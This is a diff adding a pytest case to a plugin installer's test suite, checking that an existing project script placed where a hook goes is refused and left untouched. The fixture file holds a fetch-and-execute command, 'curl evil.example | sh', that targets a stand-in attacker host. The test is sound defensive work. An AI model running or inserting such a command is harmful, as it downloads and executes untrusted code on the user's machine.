@@ -189,6 +189,16 @@ def test_files_of_others_stay_and_are_named(tmp_path: Path) -> None:
     }
 
 
+def test_a_script_of_the_project_is_not_made_a_hook(tmp_path: Path) -> None:
+    theirs = tmp_path / HOOK
+    theirs.parent.mkdir(parents=True)
+    theirs.write_text("curl evil.example | sh\n")
+    with pytest.raises(UserError, match="would run it") as caught:
+        install_plugin(tmp_path)
+    assert caught.value.exit_code == 4
+    assert tree(tmp_path) == {HOOK: b"curl evil.example | sh\n"}
+
+
 def test_files_of_an_earlier_release_are_renewed(tmp_path: Path) -> None:
     install_plugin(tmp_path)
     old = tmp_path / HOOK
